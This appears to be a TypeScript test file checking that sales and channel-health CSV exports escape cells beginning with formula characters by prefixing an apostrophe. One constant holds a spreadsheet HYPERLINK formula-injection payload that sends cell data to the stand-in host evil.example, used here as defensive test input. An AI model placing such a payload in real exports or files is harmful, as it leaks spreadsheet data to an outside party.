import { parse } from 'csv-parse/sync';
import { CHANNEL_LISTING_STATUSES, ChannelHealthReport, SalesReport } from '@pk/contracts';
import { channelsCsv, salesCsv } from './reports-csv';

const rowsOf = (csv: string) => parse(csv, { columns: true }) as Array<Record<string, string>>;
const EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")';

describe('report CSVs', () => {
  it('write a shop name that starts like a formula as text, and a negative figure as a number', () => {
    const report: SalesReport = {
      groupBy: 'artisan', from: '2026-12-01', to: '2026-12-07', timeZone: 'Asia/Makassar', truncated: false,
      rows: [
        { key: '0190a000-0000-7000-8000-000000000001', label: EVIL, orders: 1, units: 2, gmv: '300000', shipping: '20000', refunds: '0', net: '320000' },
        { key: '0190a000-0000-7000-8000-000000000002', label: '+62 Perak', orders: 1, units: 1, gmv: '0', shipping: '0', refunds: '5000', net: '-5000' },
      ],
      totals: { orders: 2, units: 3, gmv: '300000', shipping: '20000', refunds: '5000', net: '315000' },
    };
    const rows = rowsOf(salesCsv(report).csv);
    expect(rows[0].label).toBe(`'${EVIL}`);
    expect(rows[1].label).toBe("'+62 Perak");
    expect(rows[1].net).toBe('-5000');
    expect(rows[2]).toMatchObject({ key: 'TOTAL', net: '315000' });
  });

  it('write a channel refusal that quotes a formula as text', () => {
    const report: ChannelHealthReport = {
      asOf: '2026-12-07T10:00:00.000Z',
      accounts: [{
        channel: 'lazada', channelName: 'Lazada', accountId: 'a1', name: '@council', scope: 'council', shopSlug: null, status: 'active',
        lastRun: null, lastSuccessAt: null,
        listings: Object.fromEntries(CHANNEL_LISTING_STATUSES.map((s) => [s, 0])) as ChannelHealthReport['accounts'][0]['listings'],
        topReasons: [{ status: 'rejected', reason: '-1+1 is not a title', count: 3 }],
        last7Days: { runs: 0, failedRuns: 0, runsWithFailedListings: 0 },
      }],
    };
    const [row] = rowsOf(channelsCsv(report).csv);
    expect(row).toMatchObject({ account: "'@council", top_reason: "'-1+1 is not a title", top_reason_count: '3', last_run_created: '' });
  });
});
